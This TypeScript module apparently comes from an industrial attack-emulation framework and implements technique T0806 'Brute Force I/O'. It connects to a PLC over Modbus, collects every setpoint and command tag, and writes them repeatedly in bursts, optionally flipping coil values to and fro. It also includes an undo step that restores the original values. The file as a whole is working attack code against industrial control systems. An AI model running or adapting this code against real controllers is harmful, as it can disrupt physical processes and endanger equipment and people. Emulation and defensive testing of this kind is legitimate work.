// T0806 Brute Force I/O: a foreign client writes everything that can be written, over and over, and switches commands to and fro.
import { z } from 'zod'
import { ModbusDesk } from '../plc/modbus-desk.ts'
import { isRegister } from '../plc/tag-map.ts'
import type { Attack } from './attack.ts'
import { EverySeconds, inBursts, PerStrike } from './burst.ts'
import { takeHold } from './hold.ts'
import { KeptLink } from './kept-link.ts'

const Parameters = z.strictObject({
  toggle: z.boolean().default(true).describe('Whether commands are switched to and fro; otherwise all is written as it was found.'),
  perStrike: PerStrike,
  everySeconds: EverySeconds
})

export const writeFlood = {
  name: 'write-flood',
  title: { zh: '写入洪泛', en: 'Flood of writes' },
  technique: 'T0806',
  parameters: Parameters,
  async aim(foothold, { toggle, perStrike, everySeconds }) {
    const hold = await takeHold(foothold)
    const link = await KeptLink.open(foothold)
    const desk = new ModbusDesk({ map: foothold.map, link })
    const found = Object.entries(foothold.map.tags)
      .filter(([, { role }]) => role === 'setpoint' || role === 'command')
      .map(([tag, { place }]) => ({ tag, value: hold.before(tag), turns: toggle && !isRegister(place) }))
    hold.keep(...found.map(({ tag }) => tag))
    // What is written as it was found does not change.
    const targets = toggle ? found.filter(({ turns }) => turns) : found
    const turned = (one: (typeof found)[number]) => ({ ...one, value: one.turns ? 1 - one.value : one.value })
    return {
      ...{ tags: targets.map(({ tag }) => tag), hosts: [link.host], insistSeconds: everySeconds },
      strike: inBursts([...found.map(turned), ...found], { perStrike, send: ({ tag, value }) => desk.write({ [tag]: value }) }),
      async undo() {
        await link.cut()
        await hold.putBack()
      }
    }
  }
} satisfies Attack<typeof Parameters>
